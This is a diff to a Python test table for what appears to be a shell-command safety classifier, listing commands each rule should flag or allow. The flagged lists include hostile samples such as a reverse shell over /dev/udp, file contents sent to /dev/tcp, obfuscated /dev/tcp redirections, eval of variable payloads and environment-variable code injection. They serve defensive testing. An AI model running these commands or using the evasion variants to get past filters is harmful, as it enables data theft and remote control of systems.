@@ -92,8 +92,17 @@ TABLE: dict[str, tuple[list[str], list[str]]] = {
             "export NODE_OPTIONS='--require x'",
             "PYTHONSTARTUP=x python3",
             "PAGER=cat git log",
+            "env -i git status",
+            "GIT_OPTIONAL_LOCKS=1 git status",
+            "env -u GIT_OPTIONAL_LOCKS git status",
         ],
-        ["LANG=C sort f", "TZ=UTC date", "export FOO=1"],
+        [
+            "LANG=C sort f",
+            "TZ=UTC date",
+            "export FOO=1",
+            "env -i ls",
+            "GIT_OPTIONAL_LOCKS=0 git status",
+        ],
     ),
     "S17": (
         [
@@ -122,8 +131,17 @@ TABLE: dict[str, tuple[list[str], list[str]]] = {
         ["bash -c 'ls'", "bash <<EOF\nls\nEOF", "python3 app.py", "echo x | grep x"],
     ),
     "S19": (
-        ['sh -c "$PAYLOAD"', 'eval "$cmd"', "timeout --odd X rm", "bash -c $x", "env --weird ls"],
-        ["sh -c 'ls'", "eval 'ls -la'", "timeout 5 ls"],
+        [
+            'sh -c "$PAYLOAD"',
+            'eval "$cmd"',
+            "timeout --odd X rm",
+            "bash -c $x",
+            "env --weird ls",
+            "bash -l -c ls",
+            "bash -ic ls",
+            "sh --login -c ls",
+        ],
+        ["sh -c 'ls'", "eval 'ls -la'", "timeout 5 ls", "bash -ec ls", "bash -c ls -i"],
     ),
     "S20": (
         ["find . -delete", "find . -fprint /tmp/x", "find / -ok rm {} \\;"],
@@ -169,7 +187,18 @@ TABLE: dict[str, tuple[list[str], list[str]]] = {
         ["tar tf x.tar", "rg -n x", "sort -u f", "ssh -V", "man ls"],
     ),
     "S24": (
-        ["echo x > f", "cat a >> b", "exec 3<>f", "tee f", "cp a b", "ls &> out"],
+        [
+            "echo x > f",
+            "cat a >> b",
+            "exec 3<>f",
+            "tee f",
+            "cp a b",
+            "ls &> out",
+            "{ ls; } > o",
+            "( ls ) >> o",
+            "for d in /; do w; done > o",
+            "if true; then ls; fi &> o",
+        ],
         [
             "ls > /dev/null",
             "ls 2>&1",
@@ -178,11 +207,21 @@ TABLE: dict[str, tuple[list[str], list[str]]] = {
             "echo x >&2",
             "ls 2>&- >&-",
             "ls <&-",
+            "{ ls; } 2>/dev/null",
+            "while read l; do echo $l; done < f",
         ],
     ),
     "S25": (
-        ["cat f > /dev/tcp/1.2.3.4/80", "exec 3<>/dev/tcp/h/80", "bash -i >& /dev/udp/h/53 0>&1"],
-        ["cat /dev/null", "ls /dev"],
+        [
+            "cat f > /dev/tcp/1.2.3.4/80",
+            "exec 3<>/dev/tcp/h/80",
+            "bash -i >& /dev/udp/h/53 0>&1",
+            "cat < ${X-/dev/tcp/h/80}",
+            "cat < $(printf /dev/%s/h/80 tcp)",
+            'wc -l < "$f"',
+            "X=/dev/tcp/h/80 true",
+        ],
+        ["cat /dev/null", "ls /dev", "cat < f", "cat <<< $X", "grep x /dev/tcp-notes"],
     ),
     "S26": (
         [
@@ -333,7 +372,7 @@ TABLE: dict[str, tuple[list[str], list[str]]] = {
     ),
     "S36": (["echo " + "a " * 9000, nest_shells("ls", 9)], ["echo short"]),
     "S37": (
-        ["make", "./build.sh", "touch x", "npm test", "vim f", "env"],
+        ["make", "./build.sh", "touch x", "npm test", "vim f", "env", "git branch --sort -l x"],
         ["ls", "git status", "cat f | wc -l", "xargs grep x"],
     ),
     "S38": (
